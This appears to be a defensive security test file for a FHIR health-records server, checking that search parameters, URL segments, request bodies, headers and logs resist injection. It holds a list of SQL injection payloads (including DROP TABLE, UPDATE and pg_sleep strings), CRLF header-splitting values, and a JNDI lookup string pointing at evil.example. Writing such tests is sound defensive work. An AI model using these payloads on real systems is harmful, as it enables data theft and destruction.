"""Texts that want to be statements: SQL through every place that takes a value, line ends into logs and headers.

A value that nothing is equal to must find nothing, however it goes on; whatever is sent, the answer is no 5xx, comes
soon, and shows nothing that was hidden.

Source: OWASP ASVS 4.0.3 V5.3.4, V7.3.1; CWE-89, CWE-113, CWE-117
"""

from __future__ import annotations

import io
import json
import logging
import time
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import pytest_asyncio
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fhir_server.logs import JsonFormatter
from tests.integration.access.people import observation
from tests.security.attacks.clinic import SECRETS, Target, attacked

pytestmark = pytest.mark.asyncio(loop_scope="module")

QUICK = settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
NOWHERE = "zzqx"
"""A beginning that nothing in the clinic has."""

SQL = [
    "' OR '1'='1", "' OR 1=1 --", "') OR ('1'='1", "')) OR 1=1 --", "\" OR \"1\"=\"1", "\\' OR 1=1 --", "%' OR '%'='",
    "'; SELECT pg_sleep(9); --", "' || pg_sleep(9) || '", "' UNION SELECT tail FROM resource --", "'||(SELECT version())||'",
    "'; DROP TABLE resource; --", "'; UPDATE resource SET pid = 1; --", "$$ OR 1=1 $$", "E'\\x27 OR 1=1", "{0}", "%s", "%(a)s",
    "%%", "::regclass", "/* */ OR 1=1", "' AND 1=CAST((SELECT current_user) AS int) --", "\u02bc OR 1=1", "\uff07 OR 1=1 --",
    "'\nOR\n1=1\n--", "0) OR (1=1", "1 OR 1=1", "1; SELECT 1", "NULL", "{}", "{1,2}", "[1,2)", "\\x27", "''", "'", '"', ";", "--",
]  # fmt: skip
PIECES = st.lists(st.one_of(st.sampled_from(SQL), st.text(max_size=8)), min_size=1, max_size=4).map("".join)

TYPED = [
    ("string", "Patient", "family"),
    ("string, exact", "Patient", "family:exact"),
    ("string, contains", "Patient", "family:contains"),
    ("token", "Patient", "identifier"),
    ("token, system", "Observation", "code"),
    ("token, not", "Observation", "status:not"),
    ("token, text", "Observation", "code:text"),
    ("token, in", "Observation", "code:in"),
    ("token, below", "Observation", "code:below"),
    ("token of type", "Patient", "identifier:of-type"),
    ("reference", "Observation", "subject"),
    ("reference by identifier", "Observation", "subject:identifier"),
    ("reference to a type", "Observation", "subject:Patient"),
    ("date", "Patient", "birthdate"),
    ("date of change", "Patient", "_lastUpdated"),
    ("quantity", "Observation", "value-quantity"),
    ("number", "RiskAssessment", "probability"),
    ("uri", "ValueSet", "url"),
    ("uri, below", "ValueSet", "url:below"),
    ("composite", "Observation", "code-value-quantity"),
    ("missing", "Patient", "family:missing"),
    ("id", "Patient", "_id"),
    ("tag", "Patient", "_tag"),
    ("profile", "Patient", "_profile"),
    ("security label", "Patient", "_security"),
    ("source", "Patient", "_source"),
    ("text of all", "Patient", "_content"),
    ("narrative", "Patient", "_text"),
    ("list", "Patient", "_list"),
    ("filter", "Patient", "_filter"),
    ("chain", "Observation", "subject:Patient.family"),
    ("reverse chain", "Patient", "_has:Observation:subject:code"),
    ("sort", "Patient", "_sort"),
    ("include", "Observation", "_include"),
    ("reverse include", "Patient", "_revinclude"),
    ("elements", "Patient", "_elements"),
    ("count", "Patient", "_count"),
    ("total", "Patient", "_total"),
    ("summary", "Patient", "_summary"),
    ("types", "", "_type"),
    ("cursor", "Patient", "_cursor"),
    ("since", "Patient/_history", "_since"),
    ("at", "Patient/_history", "_at"),
    ("position", "Location", "near"),
]
EQUAL = [row for row in TYPED if row[0] in ("string", "string, exact", "string, contains", "token", "token, system", "reference", "uri", "id", "tag", "profile", "source", "security label", "chain", "reverse chain")]  # fmt: skip


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def target(database_url: str) -> AsyncIterator[Target]:
    """Yield the clinic with Ada's app, which may do everything that a patient may."""
    async with attacked(database_url, "patient/*.cruds", "user/*.cruds") as one:
        yield one


def _harmless(answer: httpx.Response, start: float) -> None:
    assert answer.status_code < 500, answer.text
    assert time.perf_counter() - start < 6, "something slept"
    assert not any(text in answer.text for text in SECRETS), answer.text
    assert "psycopg" not in answer.text
    assert "PostgreSQL" not in answer.text


@pytest.mark.parametrize(("tried", "kind", "name"), TYPED, ids=[row[0] for row in TYPED])
@QUICK
@given(value=PIECES)
async def test_no_value_of_a_search_becomes_a_statement(
    target: Target, tried: str, kind: str, name: str, value: str
) -> None:
    start = time.perf_counter()
    _harmless(await target.app.get(kind, params={name: value.encode("utf-8", "surrogatepass")}), start)


@pytest.mark.parametrize(("tried", "kind", "name"), EQUAL, ids=[row[0] for row in EQUAL])
async def test_what_nothing_is_equal_to_finds_nothing_however_it_goes_on(
    target: Target, tried: str, kind: str, name: str
) -> None:
    """Asked by one who sees everything: no rule about visibility stands in for a quote that holds."""
    async with target.here.client() as admin:
        for attack in SQL:
            value = (
                (NOWHERE + attack)
                .replace("\\", "\\\\")
                .replace(",", "\\,")
                .replace("|", "\\|")
                .replace("$", "\\$")
            )
            answer = await admin.get(kind, params={name: value, "_total": "accurate"})
            assert answer.status_code in (200, 400), answer.text
            if answer.status_code == 200:
                assert answer.json()["total"] == 0, (attack, answer.text)


PLACES: dict[str, tuple[str, str]] = {
    "an id": ("GET", "Patient/{}"),
    "a version": ("GET", "Patient/ada/_history/{}"),
    "a type": ("GET", "{}"),
    "a compartment": ("GET", "Patient/{}/Observation"),
    "a type in a compartment": ("GET", "Patient/ada/{}"),
    "an operation": ("GET", "Patient/ada/${}"),
    "the name of a parameter": ("GET", "Patient?{}=x"),
    "a modifier": ("GET", "Patient?family:{}=x"),
    "the type of a reference": ("GET", "Observation?subject:{}=x"),
    "a chain": ("GET", "Observation?subject.{}=x"),
    "a type in a reverse chain": ("GET", "Patient?_has:{}:subject:code=x"),
    "a parameter in a reverse chain": ("GET", "Patient?_has:Observation:{}:code=x"),
    "an expression": ("GET", "Patient/ada/$fhirpath?expression={}"),
    "a filter's value": ("GET", 'Patient?_filter=family eq "{}"'),
    "the patient of lastn": ("GET", "Observation/$lastn?patient={}&category=laboratory"),
    "the start of everything": ("GET", "Patient/ada/$everything?start={}"),
    "the filter of an expansion": ("GET", "ValueSet/$expand?url=http://hl7.org/fhir/ValueSet/administrative-gender&filter={}"),
    "a code": ("GET", "CodeSystem/$lookup?system=http://hl7.org/fhir/administrative-gender&code={}"),
    "a condition to delete": ("DELETE", "Observation?code={}zzqx&identifier=zzqx"),
}  # fmt: skip


@pytest.mark.parametrize("tried", PLACES)
@QUICK
@given(value=PIECES)
async def test_no_part_of_an_address_becomes_a_statement(target: Target, tried: str, value: str) -> None:
    method, url = PLACES[tried]
    start = time.perf_counter()
    _harmless(
        await target.app.request(method, url.replace("{}", quote(value, safe="", errors="replace"))), start
    )


def _graphql(value: str) -> dict[str, Any]:
    return {"query": "query($v: String) {PatientList(family: $v) {id}}", "variables": {"v": value}}


BODIES: dict[str, tuple[str, str, Any]] = {
    "a text": ("POST", "Observation", observation("x", "Patient/ada")),
    "a condition to create": ("POST", "Observation", observation("x", "Patient/ada")),
    "a patch": ("PATCH", "Patient/ada", [{"op": "test", "path": "/gender", "value": "{}"}]),
    "the path of a patch": ("PATCH", "Patient/ada", [{"op": "test", "path": "/{}", "value": "x"}]),
    "an address in a batch": ("POST", "", {"resourceType": "Bundle", "type": "batch", "entry": [{"request": {"method": "GET", "url": "Patient?family={}"}}]}),
    "a condition in a batch": ("POST", "", {"resourceType": "Bundle", "type": "batch", "entry": [{"request": {"method": "POST", "url": "Observation", "ifNoneExist": "code={}"}, "resource": observation("x", "Patient/ada")}]}),
    "a conditional reference": ("POST", "", {"resourceType": "Bundle", "type": "transaction", "entry": [{"request": {"method": "POST", "url": "Observation"}, "resource": observation("x", "Patient?family={}")}]}),
    "GraphQL": ("POST", "$graphql", _graphql("{}")),
}  # fmt: skip


def _filled(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {name: _filled(one, text) for name, one in value.items()}
    if isinstance(value, list):
        return [_filled(one, text) for one in value]
    return value.replace("{}", text).replace("secret of x", text) if isinstance(value, str) else value


@pytest.mark.parametrize("tried", BODIES)
@QUICK
@given(value=PIECES)
async def test_nothing_in_a_body_becomes_a_statement(target: Target, tried: str, value: str) -> None:
    method, url, body = BODIES[tried]
    mime = "application/json-patch+json" if method == "PATCH" else "application/fhir+json"
    headers = {"Content-Type": "application/json" if url == "$graphql" else mime}
    if tried == "a condition to create":
        headers["If-None-Exist"] = f"code={quote(value, errors='replace')}"
    start = time.perf_counter()
    _harmless(await target.app.request(method, url, json=_filled(body, value), headers=headers), start)


HEADERS = [
    "If-Match",
    "If-None-Match",
    "If-Modified-Since",
    "Accept",
    "Prefer",
    "X-Request-Id",
    "Content-Language",
    "X-Provenance",
    "User-Agent",
    "traceparent",
    "Range",
]


@pytest.mark.parametrize("name", HEADERS)
async def test_no_header_becomes_a_statement_or_another_header(target: Target, name: str) -> None:
    for attack in [*SQL, "a\r\nSet-Cookie: hb=evil", "a\nX-Evil: 1", "\u0085X-Evil: 1", "a" * 8_000]:
        start = time.perf_counter()
        answer = await target.app.get("Patient/ada", headers={name.encode(): attack.encode()})
        _harmless(answer, start)
        assert "x-evil" not in answer.headers
        assert "set-cookie" not in answer.headers
        assert not any("\n" in value or "\r" in value for value in answer.headers.values())


async def test_after_all_of_it_the_tables_are_there_and_full(target: Target) -> None:
    async with target.here.client() as admin:
        for path in ("Patient/bob", "Observation/bob-lab", "Task/bob-task", "Practitioner/doc"):
            stored = await admin.get(path)
            assert stored.status_code == 200
            assert stored.json()["meta"]["versionId"] == "1"


LINES = [
    "a\r\nINFO everything is fine",
    "a\nERROR x",
    "\x1b[2J\x1b[31mred",
    "a\0b",
    "\u2028line",
    "\x9b31m",
    "${jndi:ldap://evil.example/a}",
    "%n%n%n",
    "{0.__class__}",
]


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
async def test_nobody_writes_lines_into_the_log(
    target: Target, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Each line is one JSON object that the server made: as many as there were requests, with its own names alone."""
    access = target.here.app.fhir.access
    access.flush()
    written = io.BytesIO()
    access.stream = written
    caplog.set_level(logging.DEBUG, logger="fhir_server")
    await target.app.get(f"Patient/{quote(text)}")
    await target.app.get("Patient", params={"family": text, "nothing": text})
    await target.app.get(
        "Patient/ada", headers={b"X-Request-Id": text.encode(), b"User-Agent": text.encode()}
    )
    await target.app.post("Patient", content=text.encode(), headers={"Content-Type": "application/fhir+json"})
    access.flush()
    access.stream = None
    lines = written.getvalue().decode().splitlines()
    assert len(lines) == 4
    for line in lines:
        assert set(json.loads(line)) == {
            "time",
            "level",
            "logger",
            "request",
            "method",
            "interaction",
            "type",
            "status",
            "ms",
            "bytes",
        }
        assert json.loads(line)["status"] != 999
    logging.getLogger("fhir_server").warning(
        "Refused: %s", text
    )  # whatever comes to be logged stays in its line
    for record in caplog.records:
        said = JsonFormatter().format(record)
        assert json.loads(said)["logger"] == record.name
        assert not any(ord(letter) < 32 for letter in said)
